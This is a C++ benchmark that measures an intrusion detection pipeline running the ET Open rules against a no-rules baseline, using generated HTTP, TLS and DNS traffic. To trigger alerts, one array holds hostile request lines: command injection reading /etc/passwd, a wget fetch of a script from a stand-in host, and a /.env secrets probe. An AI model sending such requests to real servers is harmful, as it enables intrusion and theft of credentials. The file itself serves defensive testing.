// tools/bench/ids: the whole pipeline with the IDS on one worker core, with the ET Open rules
// that load, against the same pipeline without rules (baseline), in one run.
//
// Traffic (generated, fresh flows only: every byte is new to the IDS, no replayed segment):
// complete connections from their SYN to their FIN, many open at once and interleaved —
//   HTTP/1.1 (45%): keep-alive GETs and a few POSTs with realistic heads (browsers' and tools'
//     User-Agents, cookies, query strings) to allowed hosts, 200 responses with HTML/JSON/JS
//     bodies of 0.3–24 KB in segments of at most 1448 bytes, the client's ACK every two segments;
//   TLS (40%): ClientHello with an allowed SNI, then application_data records both ways (random
//     bytes: encrypted), 2–40 KB down;
//   DNS (15%): a query to the resolver and its answer.
// One HTTP request in 40 is one an ET rule describes (a tool's User-Agent, a probe URI) and one
// response in 200 shows `id` output, so the IDS has some alerts to log. Both pipelines see the same frames (one copy each, built in mbufs
// before the timed part); the rounds alternate which runs first.
//
// Frames are interleaved as a loaded worker receives them (Interleave below): a poll of the inside
// port, then one of the outside port, up to 32 frames each, from many connections.
// Timed: Pipeline::processBurst() and the hand-off of its output to net_null, a burst per poll,
// with the worker loop's housekeeping() once per pair of polls (runtime.cc's loop). Untimed:
// generating the frames, copying them into mbufs, draining the event ring (the logger thread's
// work; alerts are counted there), compiling the rules. Last line:
//   ids: <P> kpps, <G> Gbit/s, <R> rules loaded, <N> alerts
// with P and G the IDS pipeline's rate (G over the frames' bytes, Ethernet header included, no
// preamble or gap), followed on stderr by the baseline and the ratio.
//
// Usage: ids [--rules DIR] [--flows N] [--rounds R] [--warmup W] [--perf-ctl FIFO]
//            [--perf-pipeline ids|baseline] [--interleave polled|random]
//   W: flows of other clients run through both pipelines before the timed rounds, untimed and
//   not counted (default 500; 0: none), so the tables' first touch is not measured.
//   DIR: the ET Open rules folder (default ../shared/corpus/et-open/rules); every *.rules file.
//   FIFO: perf's control FIFO (`perf record -D -1 --control fifo:FIFO`): the bench writes
//   `enable`/`disable` around the IDS pipeline's timed calls, so the profile shows only them
//   (`--perf-pipeline baseline`: around the baseline's, to tell the IDS's share by difference).

#include <rte_cycles.h>
#include <rte_ethdev.h>
#include <rte_mbuf.h>

#include <algorithm>
#include <chrono>
#include <cstdio>
#include <cstring>
#include <filesystem>
#include <map>
#include <random>
#include <string>
#include <vector>

#include "dataplane/core/eal.h"
#include "dataplane/core/mbuf_pool.h"
#include "dataplane/core/pipeline.h"
#include "dataplane/core/test_frames.h"
#include "dataplane/ids/engine.h"
#include "dataplane/ids/policy_ids.h"
#include "policy/parser.h"
#include "tools/bench/common/null_port.h"

using namespace lbg;
using lbg::testing::Bytes;
using lbg::testing::L4Spec;
using lbg::bench::NullPortSink;
using lbg::bench::nowNs;
using lbg::bench::startPort;

namespace {

constexpr const char* kPolicy = R"(version: 1
segment: {inside: [10.0.0.0/8]}
defaults: {deny: drop, quic: block, ech: allow, sni_dns: "off"}
services:
  - name: web
    kind: infrastructure
    fqdn: ["*.example.jp", "*.example.com", "*.example.net", www.city.example.lg.jp]
    ports: [tcp/80, tcp/443]
  - name: resolver
    kind: infrastructure
    cidr: [192.0.2.53/32]
    ports: [udp/53]
)";

const char* kHosts[] = {"www.city.example.lg.jp", "portal.example.jp", "cdn.example.net",
                        "update.example.com",     "docs.example.com",  "api.example.net",
                        "mail.example.jp",        "static.example.com"};
const char* kAgents[] = {
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/120.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:121.0) Gecko/20100101 Firefox/121.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/120.0.0.0 Safari/537.36 Edg/120.0.2210.91",
    "Microsoft-CryptoAPI/10.0", "Windows-Update-Agent/10.0.10011.16384 Client-Protocol/2.50"};
const char* kPaths[] = {"/",          "/index.html",        "/news/2024/03/notice.html",
                        "/api/v1/items", "/static/js/app.js", "/images/logo.png",
                        "/search",    "/css/site.css",      "/kurashi/gomi/index.html"};
// Requests ET Open rules describe (tools, probes): one HTTP request in 40.
const char* kSuspicious[] = {
    "GET /wp-login.php HTTP/1.1\r\nHost: %s\r\nUser-Agent: python-requests/2.31.0\r\n"
    "Accept: */*\r\n\r\n",
    "GET /cgi-bin/test.cgi?cmd=cat%%20/etc/passwd HTTP/1.1\r\nHost: %s\r\nUser-Agent: "
    "curl/7.88.1\r\nAccept: */*\r\n\r\n",
    "GET /.env HTTP/1.1\r\nHost: %s\r\nUser-Agent: Go-http-client/1.1\r\n\r\n",
    "GET /shell?cd+/tmp;wget+http://198.51.100.7/x.sh HTTP/1.1\r\nHost: %s\r\nUser-Agent: "
    "Wget/1.21.2\r\n\r\n",
    // ET ADWARE_PUP (sid 2013200, http.uri).
    "GET /update/patchlist.xml HTTP/1.1\r\nHost: %s\r\nUser-Agent: Mozilla/4.0\r\n\r\n"};
const char* kWords[] = {"市民", "the", "service", "お知らせ", "information", "data", "update",
                        "<div class=\"item\">", "</div>\n", "<p>", "</p>", "function", "var",
                        "return", "{\"id\":", "\"name\":", "},", "2024", "page", "link",
                        "<a href=\"/news/\">", "</a>", "window", "document", "style"};

struct Frame {
  Bytes bytes;
  bool fromInside;
};

// One connection's frames in order.
using Flow = std::vector<Frame>;

Bytes text(std::mt19937& rng, size_t n) {
  Bytes b;
  b.reserve(n + 32);
  while (b.size() < n) {
    const char* w = kWords[rng() % std::size(kWords)];
    b.insert(b.end(), w, w + std::strlen(w));
    b.push_back(' ');
  }
  b.resize(n);
  return b;
}

Bytes str(const std::string& s) { return Bytes(s.begin(), s.end()); }

// A TCP connection being written: handshake done on creation, data both ways, FIN at close.
struct Conn {
  L4Spec c, s;
  uint32_t cseq = 1001, sseq = 50001;
  Flow out;
  Conn(uint32_t clientIndex, uint32_t server, uint16_t dport) {
    c.src = IpAddr::fromV4(0x0a000000u | (clientIndex & 0xffffff));
    c.dst = IpAddr::fromV4(server);
    c.sport = uint16_t(20000 + clientIndex % 40000);
    c.dport = dport;
    s = c;
    std::swap(s.src, s.dst);
    std::swap(s.sport, s.dport);
    seg(true, 0x02, {});
    ++cseq;
    seg(false, 0x12, {});
    ++sseq;
    seg(true, 0x10, {});
  }
  void seg(bool client, uint8_t flags, const Bytes& data) {
    L4Spec& d = client ? c : s;
    d.flags = flags;
    d.seq = client ? cseq : sseq;
    d.ack = (flags & 0x10) ? (client ? sseq : cseq) : 0;
    out.push_back({testing::frame(d, data), client});
    (client ? cseq : sseq) += uint32_t(data.size());
  }
  // Sends `data` in segments of at most 1448 bytes; the receiver ACKs every second one.
  void send(bool client, const Bytes& data) {
    int n = 0;
    for (size_t off = 0; off < data.size(); off += 1448) {
      const size_t len = std::min<size_t>(1448, data.size() - off);
      seg(client, 0x18, Bytes(data.begin() + long(off), data.begin() + long(off + len)));
      if (++n % 2 == 0) seg(!client, 0x10, {});
    }
    if (n % 2 == 1) seg(!client, 0x10, {});
  }
  void close() {
    seg(true, 0x11, {});
    ++cseq;
    seg(false, 0x11, {});
    ++sseq;
    seg(true, 0x10, {});
  }
};

Flow httpFlow(uint32_t idx, std::mt19937& rng, uint32_t& suspicious) {
  const char* host = kHosts[rng() % std::size(kHosts)];
  Conn k(idx, 0xc6336400u | (rng() % 200 + 1), 80);  // 198.51.100.x
  const int requests = 1 + int(rng() % 3);
  for (int r = 0; r < requests; ++r) {
    std::string head;
    char buf[512];
    if (rng() % 40 == 0) {
      std::snprintf(buf, sizeof buf, kSuspicious[suspicious++ % std::size(kSuspicious)], host);
      head = buf;
    } else {
      const bool post = rng() % 10 == 0;
      std::string path = kPaths[rng() % std::size(kPaths)];
      if (rng() % 3 == 0) path += "?id=" + std::to_string(rng() % 100000) + "&lang=ja";
      head = std::string(post ? "POST " : "GET ") + path + " HTTP/1.1\r\nHost: " + host +
             "\r\nUser-Agent: " + kAgents[rng() % std::size(kAgents)] +
             "\r\nAccept: text/html,application/xhtml+xml,*/*;q=0.8\r\nAccept-Language: "
             "ja,en-US;q=0.7\r\nAccept-Encoding: identity\r\nCookie: session=" +
             std::to_string(rng()) + "; consent=1\r\nConnection: keep-alive\r\n";
      if (post) {
        const Bytes body = text(rng, 200 + rng() % 800);
        head += "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: " +
                std::to_string(body.size()) + "\r\n\r\n" + std::string(body.begin(), body.end());
      } else {
        head += "\r\n";
      }
    }
    k.send(true, str(head));
    Bytes body = text(rng, 300 + rng() % 24000);
    if (rng() % 200 == 0) {
      // A page that shows `id` output: GPL ATTACK_RESPONSE (sid 2100498, payload).
      const std::string id = "<pre>uid=0(root) gid=0(root) groups=0(root)</pre>";
      std::copy(id.begin(), id.end(), body.begin() + long(body.size() / 2));
    }
    const char* type = rng() % 3 == 0 ? "application/json" : "text/html; charset=utf-8";
    std::string resp = std::string("HTTP/1.1 200 OK\r\nDate: Sun, 24 Mar 2024 10:00:00 GMT\r\n") +
                       "Server: nginx\r\nContent-Type: " + type + "\r\nContent-Length: " +
                       std::to_string(body.size()) + "\r\nCache-Control: max-age=600\r\n\r\n";
    Bytes out = str(resp);
    out.insert(out.end(), body.begin(), body.end());
    k.send(false, out);
  }
  k.close();
  return std::move(k.out);
}

Bytes tlsRecord(std::mt19937& rng, size_t payload) {
  Bytes b = {0x17, 0x03, 0x03, uint8_t(payload >> 8), uint8_t(payload)};
  for (size_t i = 0; i < payload; ++i) b.push_back(uint8_t(rng()));
  return b;
}

Flow tlsFlow(uint32_t idx, std::mt19937& rng) {
  const char* host = kHosts[rng() % std::size(kHosts)];
  Conn k(idx, 0x34600000u | (rng() % 4096), 443);  // 52.96.x.y
  k.send(true, testing::clientHello({.names = {host}}));
  // The server's flight and the rest of the handshake are encrypted-looking records (TLS 1.3).
  k.send(false, tlsRecord(rng, 2500 + rng() % 1500));
  k.send(true, tlsRecord(rng, 80 + rng() % 400));
  size_t down = 2000 + rng() % 38000;
  while (down > 0) {
    const size_t n = std::min<size_t>(down, 16384);
    k.send(false, tlsRecord(rng, n));
    down -= n;
    if (rng() % 3 == 0) k.send(true, tlsRecord(rng, 40 + rng() % 200));
  }
  k.close();
  return std::move(k.out);
}

Flow dnsFlow(uint32_t idx, std::mt19937& rng) {
  L4Spec c;
  c.proto = 17;
  c.src = IpAddr::fromV4(0x0a000000u | (idx & 0xffffff));
  c.dst = *IpAddr::parse("192.0.2.53");
  c.sport = uint16_t(20000 + idx % 40000);
  c.dport = 53;
  L4Spec s = c;
  std::swap(s.src, s.dst);
  std::swap(s.sport, s.dport);
  const std::string name = kHosts[rng() % std::size(kHosts)];
  const uint16_t id = uint16_t(rng());
  Flow f;
  f.push_back({testing::frame(c, testing::dnsQuery(name, 1, id)), true});
  f.push_back({testing::frame(s, testing::dnsResponse(name, {}, {IpAddr::fromV4(0x34600000u | (rng() % 4096))},
                                                      300, id)),
               false});
  return f;
}

// `flows` connections starting at client index `base`, at most `open` of them interleaved.
// How the open connections' frames are interleaved on the two ports.
//  Polled (the default): as a loaded worker receives them. The loop polls the inside port, then
//    the outside port, each poll up to 32 frames: the next frames, each of a random open
//    connection whose next frame comes from that port (a connection may give several in a row,
//    a server's segments), so that each connection's frames stay in their order. A real RX
//    burst is full under load; its frames belong to many connections.
//  Random (`--interleave random`, the bench before 2026-12-07): each next frame from a random
//    open connection, so the port changes every one to three frames, each processBurst() gets
//    about two frames and the loop's housekeeping runs every two or so: per-call costs a loaded
//    worker spreads over 32 or 64 frames were paid per frame or two.
enum class Interleave { Polled, Random };

std::vector<Frame> generate(uint32_t base, uint32_t flows, uint32_t open, std::mt19937& rng,
                            uint32_t& suspicious, Interleave interleave = Interleave::Polled) {
  std::vector<Flow> all;
  for (uint32_t i = 0; i < flows; ++i) {
    const uint32_t kind = rng() % 100, idx = base + i;
    all.push_back(kind < 45 ? httpFlow(idx, rng, suspicious)
                            : kind < 85 ? tlsFlow(idx, rng) : dnsFlow(idx, rng));
  }
  std::vector<Frame> out;
  if (interleave == Interleave::Polled) {
    // waiting[p]: open connections whose next frame comes from port p (0 inside, 1 outside).
    std::vector<std::pair<uint32_t, size_t>> waiting[2];
    uint32_t next = 0, openNow = 0;
    auto place = [&](uint32_t fi, size_t pos) {
      waiting[all[fi][pos].fromInside ? 0 : 1].push_back({fi, pos});
    };
    for (int port = 0; next < all.size() || openNow > 0; port ^= 1) {
      while (openNow < open && next < all.size()) place(next++, 0), ++openNow;
      for (int n = 0; n < 32 && !waiting[port].empty(); ++n) {
        auto& w = waiting[port];
        const size_t a = rng() % w.size();
        auto [fi, pos] = w[a];
        w[a] = w.back();
        w.pop_back();
        out.push_back(std::move(all[fi][pos]));
        if (++pos == all[fi].size()) {
          all[fi].clear();
          all[fi].shrink_to_fit();
          --openNow;
        } else {
          place(fi, pos);
        }
      }
    }
    return out;
  }
  std::vector<std::pair<uint32_t, size_t>> active;  // flow, next frame
  uint32_t next = 0;
  while (next < all.size() || !active.empty()) {
    while (active.size() < open && next < all.size()) active.push_back({next++, 0});
    const size_t a = rng() % active.size();
    auto& [fi, pos] = active[a];
    out.push_back(std::move(all[fi][pos]));
    if (++pos == all[fi].size()) {
      all[fi].clear();
      all[fi].shrink_to_fit();
      active[a] = active.back();
      active.pop_back();
    }
  }
  return out;
}

// One pipeline under test and what it did.
struct Run {
  std::unique_ptr<dataplane::SnapshotSlot> slot;
  std::unique_ptr<dataplane::Pipeline> pipeline;
  uint64_t packets = 0, bytes = 0, cycles = 0, alerts = 0;
  std::map<uint32_t, uint64_t> alertsBySid;  // the timed rounds' (untimed drain)
};

}  // namespace

int main(int argc, char** argv) {
  std::string rulesDir = LBG_ET_OPEN_DIR;
  uint32_t flowsPerRound = 2000, rounds = 10, warmup = 500;
  std::FILE* perfCtl = nullptr;
  int perfRun = 1;  // the pipeline the profile covers: 1 ids, 0 baseline
  Interleave interleave = Interleave::Polled;
  for (int i = 1; i + 1 < argc; i += 2) {
    const std::string a = argv[i];
    if (a == "--rules") rulesDir = argv[i + 1];
    if (a == "--flows") flowsPerRound = uint32_t(std::stoul(argv[i + 1]));
    if (a == "--rounds") rounds = uint32_t(std::stoul(argv[i + 1]));
    if (a == "--warmup") warmup = uint32_t(std::stoul(argv[i + 1]));
    if (a == "--perf-ctl") perfCtl = std::fopen(argv[i + 1], "w");
    if (a == "--perf-pipeline") perfRun = std::string(argv[i + 1]) == "baseline" ? 0 : 1;
    if (a == "--interleave")
      interleave = std::string(argv[i + 1]) == "random" ? Interleave::Random : Interleave::Polled;
  }
  auto perf = [&](const char* cmd) {
    if (perfCtl) std::fputs(cmd, perfCtl), std::fflush(perfCtl);
  };
  ids::registerPolicyIds();
  std::vector<std::string> files;
  for (auto& e : std::filesystem::directory_iterator(rulesDir))
    if (e.path().extension() == ".rules") files.push_back(e.path().string());
  std::sort(files.begin(), files.end());
  if (files.empty()) {
    std::fprintf(stderr, "ids-bench: no *.rules in %s\n", rulesDir.c_str());
    return 1;
  }
  // on_fault: pass: the mix's downloads longer than the 1 MiB scan depth end their scanning there
  // instead of being denied (the default, drop), which would skip the rest of their packets as
  // denied ones and flatter the figure; the alerts stay comparable with figures before
  // 2026-12-07, when the depth ended scanning whatever on_fault said.
  std::string withRules = std::string(kPolicy) + "ids:\n  mode: ips\n  on_fault: pass\n  rules:\n";
  for (auto& f : files) withRules += "    - \"" + f + "\"\n";

  auto eal = dataplane::offlineEalArgs();
  eal.push_back("--vdev=net_null0");
  if (auto ok = dataplane::initEal(eal); !ok) {
    std::fprintf(stderr, "ids-bench: %s\n", ok.error().toString().c_str());
    return 1;
  }
  // Rounds are generated one at a time (untimed); the first one sizes the pool: two copies of a
  // round, with a margin for the others, and room for what is in flight.
  std::mt19937 rng(20240324);
  uint32_t suspicious = 0;
  std::vector<Frame> traffic = generate(0, flowsPerRound, 256, rng, suspicious, interleave);
  const size_t maxRound = traffic.size() + traffic.size() / 2;
  auto packetPool = dataplane::PacketPool::create("ids_bench_pool", uint32_t(2 * maxRound + 65536),
                                                  512, RTE_MBUF_DEFAULT_BUF_SIZE, SOCKET_ID_ANY);
  if (!packetPool) {
    std::fprintf(stderr, "ids-bench: %s\n", packetPool.error().toString().c_str());
    return 1;
  }
  rte_mempool* pool = packetPool.value()->get();
  uint16_t nullPort = 0;
  if (rte_eth_dev_get_port_by_name("net_null0", &nullPort) != 0 || !startPort(nullPort, pool)) {
    std::fprintf(stderr, "ids-bench: cannot start the null port\n");
    return 1;
  }
  auto dns = inspect::DnsBindingTable::create(1u << 18);
  dataplane::PipelineConfig pc;
  pc.flowCapacity = 1u << 18;
  pc.eventRingSize = 1u << 20;
  pc.idsFlows = 1u << 16;

  Run runs[2];  // 0: baseline (no rules), 1: IDS
  size_t rulesLoaded = 0;
  for (int i = 0; i < 2; ++i) {
    const std::string text = i == 0 ? std::string(kPolicy) : withRules;
    auto doc = policy::parsePolicyText(
        text, "/bench.yaml", std::chrono::floor<std::chrono::days>(std::chrono::system_clock::now()));
    if (!doc) {
      std::fprintf(stderr, "ids-bench: %s\n", doc.error().toString().c_str());
      return 1;
    }
    const auto t0 = std::chrono::steady_clock::now();
    auto snap = policy::Snapshot::create(std::move(doc.value()), 1);
    if (!snap) {
      std::fprintf(stderr, "ids-bench: %s\n", snap.error().toString().c_str());
      return 1;
    }
    if (i == 1) {
      if (snap.value()->idsEngine() == nullptr) {
        std::fprintf(stderr, "ids-bench: the policy compiled no IDS engine\n");
        return 1;
      }
      rulesLoaded = snap.value()->idsEngine()->ruleCount();
      std::fprintf(stderr, "ids-bench: %zu rules loaded and compiled in %.1f s (untimed)\n",
                   rulesLoaded,
                   std::chrono::duration<double>(std::chrono::steady_clock::now() - t0).count());
    }
    runs[i].slot = std::make_unique<dataplane::SnapshotSlot>(snap.value());
    runs[i].slot->setWorkerCount(1);
    auto p = dataplane::Pipeline::create(pc, 0, *runs[i].slot, *dns.value(), pool);
    if (!p) {
      std::fprintf(stderr, "ids-bench: %s\n", p.error().toString().c_str());
      return 1;
    }
    runs[i].pipeline = std::move(p.value());
  }

  NullPortSink sink(nullPort);
  std::vector<rte_mbuf*> mbufs[2];
  auto drain = [](Run& run) {
    telemetry::Event ev;
    while (run.pipeline->events().tryPop(ev))
      if (ev.kind == telemetry::EventKind::Alert) ++run.alerts, ++run.alertsBySid[ev.sigId];
  };
  // Warm-up (untimed, not counted): `warmup` flows of other clients through both pipelines
  // first, so the timed rounds measure the steady state, not the first touch of the tables the
  // pipelines reserve at start (the flow table's huge pages were 14-20 % of a 4-round profile,
  // in both pipelines alike).
  std::vector<Frame> warm;
  if (warmup > 0) {
    uint32_t ignored = 0;
    std::mt19937 warmRng(1);  // its own: the timed rounds' traffic stays the same
    warm = generate(0x800000, warmup, 256, warmRng, ignored, interleave);
  }
  dataplane::PipelineCounters before[2];
  uint64_t bursts = 0;  // the IDS pipeline's timed processBurst() calls
  for (uint32_t r = 0; r < rounds + 1; ++r) {
    const bool timed = r > 0;
    if (!timed) std::swap(traffic, warm);
    if (r == 1) {
      std::swap(traffic, warm);
      for (int i = 0; i < 2; ++i) {
        before[i] = runs[i].pipeline->counters();
        runs[i].alerts = 0;
        runs[i].alertsBySid.clear();
      }
    }
    if (r > 1)
      traffic = generate((r - 1) * flowsPerRound, flowsPerRound, 256, rng, suspicious, interleave);
    if (traffic.size() > maxRound) {
      std::fprintf(stderr, "ids-bench: round %u larger than the pool allows\n", r);
      return 1;
    }
    uint64_t bytes = 0;
    for (int i = 0; i < 2; ++i) {
      mbufs[i].clear();
      for (const Frame& f : traffic) {
        rte_mbuf* m = rte_pktmbuf_alloc(pool);
        if (m == nullptr) {
          std::fprintf(stderr, "ids-bench: mbuf pool exhausted\n");
          return 1;
        }
        std::memcpy(rte_pktmbuf_append(m, uint16_t(f.bytes.size())), f.bytes.data(),
                    f.bytes.size());
        mbufs[i].push_back(m);
        if (i == 0) bytes += f.bytes.size();
      }
    }
    for (int k = 0; k < 2; ++k) {
      const int i = (r + k) % 2;  // alternate which pipeline goes first
      Run& run = runs[i];
      const std::vector<Frame>& frames = traffic;
      size_t pos = 0;
      if (i == perfRun && timed) perf("enable\n");
      while (pos < frames.size()) {
        // A burst: consecutive frames from the same port, at most 32.
        const bool in = frames[pos].fromInside;
        uint16_t n = 0;
        while (n < 32 && pos + n < frames.size() && frames[pos + n].fromInside == in) ++n;
        const uint64_t start = rte_get_tsc_cycles();
        const uint64_t now = nowNs();
        run.pipeline->processBurst(&mbufs[i][pos], n,
                                   in ? dataplane::Ingress::InsidePort
                                      : dataplane::Ingress::OutsidePort,
                                   now, sink);
        sink.flush();
        // Once per loop iteration (runtime.cc: a burst from each port, then housekeeping): after
        // the outside port's burst; with the random interleave after every burst, as before.
        const bool iterationEnds = interleave == Interleave::Random || pos + n == frames.size() ||
                                   frames[pos + n].fromInside;
        if (iterationEnds) run.pipeline->housekeeping(now);
        if (timed) run.cycles += rte_get_tsc_cycles() - start;
        bursts += timed && i == 1;
        pos += n;
        drain(run);
      }
      if (i == perfRun && timed) perf("disable\n");
      if (!timed) continue;
      run.packets += frames.size();
      run.bytes += bytes;
    }
  }
  const double hz = double(rte_get_tsc_hz());
  double kpps[2], gbps[2];
  for (int i = 0; i < 2; ++i) {
    const double secs = double(runs[i].cycles) / hz;
    kpps[i] = double(runs[i].packets) / secs / 1e3;
    gbps[i] = double(runs[i].bytes) * 8 / secs / 1e9;
    dataplane::PipelineCounters k = runs[i].pipeline->counters();
    k.flows_allowed -= before[i].flows_allowed;
    k.flows_denied -= before[i].flows_denied;
    k.ids_scanned_bytes -= before[i].ids_scanned_bytes;
    k.ids_alerts -= before[i].ids_alerts;
    k.ids_dropped -= before[i].ids_dropped;
    k.ids_state_full -= before[i].ids_state_full;
    k.ids_faults -= before[i].ids_faults;
    std::fprintf(stderr,
                 "ids-bench: %s: %llu packets, %.3f s, %llu flows allowed, %llu denied, "
                 "%llu bytes scanned, %llu alerts, %llu IDS drops, %llu state full, %llu faults\n",
                 i ? "ids" : "baseline", (unsigned long long)runs[i].packets, secs,
                 (unsigned long long)k.flows_allowed, (unsigned long long)k.flows_denied,
                 (unsigned long long)k.ids_scanned_bytes, (unsigned long long)k.ids_alerts,
                 (unsigned long long)k.ids_dropped, (unsigned long long)k.ids_state_full,
                 (unsigned long long)k.ids_faults);
  }
  std::fprintf(stderr, "ids-bench: %s interleave, %.1f frames per burst\n",
               interleave == Interleave::Polled ? "polled" : "random",
               bursts ? double(runs[1].packets) / double(bursts) : 0.0);
  std::fprintf(stderr, "ids-bench: alerts by sid:");
  for (const auto& [sid, n] : runs[1].alertsBySid)
    std::fprintf(stderr, " %u:%llu", sid, (unsigned long long)n);
  std::fprintf(stderr, "\n");
  // Where the IDS's verification time went (the engine's per-rule counters, lbgctl ids stats).
  const ids::RuleCostReport costs = runs[1].slot->current()->idsEngine()->ruleCosts(5);
  std::fprintf(stderr,
               "ids-bench: %zu rules verified at least once, %llu checks, %llu matches, %.3f s "
               "verifying\n",
               costs.rulesChecked, (unsigned long long)costs.total.checks,
               (unsigned long long)costs.total.matches, double(costs.total.cycles) / hz);
  for (const auto& c : costs.top)
    std::fprintf(stderr, "ids-bench:   sid %u: %llu checks, %llu matches, %.3f s  %s\n", c.sid,
                 (unsigned long long)c.stats.checks, (unsigned long long)c.stats.matches,
                 double(c.stats.cycles) / hz, c.msg.c_str());
  std::fprintf(stderr, "ids-bench: baseline (no rules) %.0f kpps, %.2f Gbit/s; ids/baseline %.2f\n",
               kpps[0], gbps[0], kpps[1] / kpps[0]);
  std::printf("ids: %.0f kpps, %.2f Gbit/s, %zu rules loaded, %llu alerts\n", kpps[1], gbps[1],
              rulesLoaded, (unsigned long long)runs[1].alerts);
  return 0;
}
